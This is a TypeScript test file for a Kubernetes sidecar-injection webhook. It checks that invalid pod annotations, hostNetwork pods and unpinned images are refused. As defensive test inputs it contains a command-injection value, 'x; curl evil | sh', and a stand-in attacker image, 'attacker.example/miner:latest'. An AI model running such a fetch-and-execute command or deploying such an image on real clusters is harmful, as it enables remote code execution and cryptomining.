/**
 * Issue 24, defect 12: annotation values were copied into the pod unchecked. The image annotation
 * overrode the webhook's --image (an operator could not pin it); resources and ttl went through
 * as written (an API server rejection or a crash-loop instead of SIDECAR_INJECT_INVALID);
 * duplicate ports and the admin port 15000 were not caught; hostNetwork pods were injected, their
 * loopback listeners then on the node's loopback. Now `inject` and the webhook refuse each with
 * the same message, and the webhook pins its image unless told otherwise.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { ErrorCodes } from '../../src/errors.js';
import { injectYaml } from '../../src/kubernetes/inject.js';
import { errorOf } from '../support/errors.js';
import { GOOD_ANNOTATIONS, goodPod, patchOf, startWebhookUnderAttack, type WebhookUnderAttack } from './webhook-process.js';

const options = { vaultAddr: 'https://vault.vault.svc:8200', image: 'example/sidecar:1' };
type Json = Record<string, unknown>;

/** The pod as YAML for `inject`, with these annotations over the good ones. */
function podYaml(annotations: Record<string, string>, spec: Json = {}): string {
  const pod = goodPod({ ...GOOD_ANNOTATIONS, ...annotations });
  return JSON.stringify({ ...pod, metadata: { ...(pod.metadata as Json), namespace: 'mesh' }, spec: { ...(pod.spec as Json), ...spec } });
}

const BAD: [string, Record<string, string>, string][] = [
  ['a memory limit the sidecar cannot start in', { 'vault-mtls-sidecar/memory-limit': '1Mi' }, 'is below 96Mi'],
  ['a memory limit that is not a quantity', { 'vault-mtls-sidecar/memory-limit': 'lots' }, 'is not a memory quantity'],
  ['a CPU request that is not a quantity', { 'vault-mtls-sidecar/cpu-request': 'fast' }, 'is not a CPU quantity'],
  ['a memory request above the limit', { 'vault-mtls-sidecar/memory-request': '512Mi' }, 'is above memory-limit "256Mi"'],
  ['a ttl that is not a duration', { 'vault-mtls-sidecar/ttl': 'forever' }, 'is not a duration'],
  ['a ttl too short to renew', { 'vault-mtls-sidecar/ttl': '1s' }, 'is outside 10s to 30d'],
  ['two inbound ports the same', { 'vault-mtls-sidecar/inbound': '8443:8080,8443:9090' }, 'port 8443 is used twice'],
  ['an outbound port on the admin port', { 'vault-mtls-sidecar/outbound': '15000=payments.shop.svc:8443' }, 'port 15000 is used twice'],
  ['an outbound port on the app port', { 'vault-mtls-sidecar/outbound': '8080=payments.shop.svc:8443' }, 'port 8080 is used twice'],
  ['a role that is not a DNS label', { 'vault-mtls-sidecar/role': 'Orders_Team' }, 'is not a DNS label'],
  ['a Vault address without a scheme', { 'vault-mtls-sidecar/vault-addr': 'vault:8200' }, 'is not an http:// or https:// URL'],
];

let webhook: WebhookUnderAttack;
let unpinned: WebhookUnderAttack;

beforeAll(async () => {
  [webhook, unpinned] = await Promise.all([startWebhookUnderAttack(), startWebhookUnderAttack(['--no-pin-image'])]);
});

afterAll(async () => {
  await Promise.all([webhook?.stop(), unpinned?.stop()]);
});

describe.each(BAD)('%s', (_what, annotations, message) => {
  it('is refused by inject and the webhook, with the same message', async () => {
    const err = errorOf(() => injectYaml(podYaml(annotations), 'pod.json', options));
    expect(err.code).toBe(ErrorCodes.INJECT_INVALID);
    expect(err.message).toContain(message);
    expect(err.message.startsWith('Pod mesh/orders: ')).toBe(true);

    const response = await webhook.review(goodPod({ ...GOOD_ANNOTATIONS, ...annotations }));
    expect(response.allowed).toBe(false);
    expect(response.patch).toBeUndefined();
    // One problem per line from inject, "; " between them from the webhook.
    expect(response.status?.message).toBe(err.message.split('\n').join('; '));
    await webhook.assertServesGoodPod();
  });
});

describe('the image', () => {
  const image = { 'vault-mtls-sidecar/image': 'attacker.example/miner:latest' };

  it('is pinned by the webhook by default: the annotation is refused, naming the flag', async () => {
    const response = await webhook.review(goodPod({ ...GOOD_ANNOTATIONS, ...image }));
    expect(response.allowed).toBe(false);
    expect(response.status?.message).toMatch(
      /annotation vault-mtls-sidecar\/image is refused: this injector pins the sidecar image to .* \(--pin-image\); remove the annotation/,
    );
    await webhook.assertServesGoodPod();
  });

  it('may come from the annotation when pinning is off, and must be an image reference', async () => {
    const allowed = patchOf(await unpinned.review(goodPod({ ...GOOD_ANNOTATIONS, ...image })));
    expect(((allowed.find((op) => op.path === '/spec/initContainers')?.value ?? []) as Json[])[0]?.image).toBe(
      'attacker.example/miner:latest',
    );
    const refused = await unpinned.review(goodPod({ ...GOOD_ANNOTATIONS, 'vault-mtls-sidecar/image': 'x; curl evil | sh' }));
    expect(refused.status?.message).toMatch(/"x; curl evil \| sh" is not an image reference/);
    await unpinned.assertServesGoodPod();
  });

  it('is pinned by inject --pin-image', () => {
    const err = errorOf(() => injectYaml(podYaml(image), 'pod.json', { ...options, pinImage: true }));
    expect(err.message).toMatch(/pins the sidecar image to example\/sidecar:1/);
    const out = parse(injectYaml(podYaml({}), 'pod.json', { ...options, pinImage: true }).text) as { spec: { initContainers: Json[] } };
    expect(out.spec.initContainers[0]?.image).toBe('example/sidecar:1');
  });
});

describe('hostNetwork pods', () => {
  it('are refused by inject and the webhook', async () => {
    const err = errorOf(() => injectYaml(podYaml({}, { hostNetwork: true }), 'pod.json', options));
    expect(err.message).toMatch(/^Pod mesh\/orders: spec\.hostNetwork is true: the sidecar's loopback listeners would be the node's/);
    const pod = goodPod();
    (pod.spec as Json).hostNetwork = true;
    const response = await webhook.review(pod);
    expect(response.allowed).toBe(false);
    expect(response.status?.message).toBe(err.message);
    await webhook.assertServesGoodPod();
  });
});
